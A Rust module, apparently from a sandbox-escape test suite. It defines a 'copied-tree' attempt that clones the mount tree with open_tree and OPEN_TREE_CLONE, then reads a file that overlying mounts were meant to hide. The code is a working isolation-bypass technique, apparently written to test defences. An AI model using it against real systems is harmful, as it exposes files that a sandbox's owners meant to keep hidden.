//! Does a copy of the tree show what is covered in it?

use std::fs;

use crate::attempt::{Attempt, Severity};
use crate::field::Field;
use crate::sys::{self, Arg};
use crate::token::Token;
use crate::tried::{NotApplicable, Tried};

pub(super) const ATTEMPT: Attempt = Attempt {
    id: "copied-tree",
    class: "mounts",
    severity: Severity::Critical,
    about: "Opens a copy of the root without the mounts that lie on it, and reads a hidden file there.",
    make,
    ..Attempt::USUAL
};

fn make(field: &Field, _: &Token, tried: &mut Tried) -> Result<(), NotApplicable> {
    let secret = field.host.covered.as_ref().ok_or(NotApplicable::field("host.covered"))?;
    let [here, flags] = [libc::AT_FDCWD as u64, u64::from(libc::OPEN_TREE_CLONE)].map(Arg::Number);
    for at in secret.ancestors().skip(1) {
        let from = format!("{}\0", at.display());
        let [here, flags] = [&here, &flags]
            .map(|number| if let Arg::Number(number) = number { Arg::Number(*number) } else { Arg::Number(0) });
        let tree = sys::call(libc::SYS_open_tree, &mut [here, Arg::In(from.as_bytes()), flags]).and_then(sys::owned);
        let Some(tree) = tried.call(&format!("copy {}", at.display()), tree) else { continue };
        let below = secret.strip_prefix(at).unwrap_or(secret);
        let path = format!("/proc/self/fd/{}/{}", std::os::fd::AsRawFd::as_raw_fd(&tree), below.display());
        if let Some(bytes) = tried.call("read", fs::read(path)) {
            tried.output(&bytes);
        }
    }
    Ok(())
}
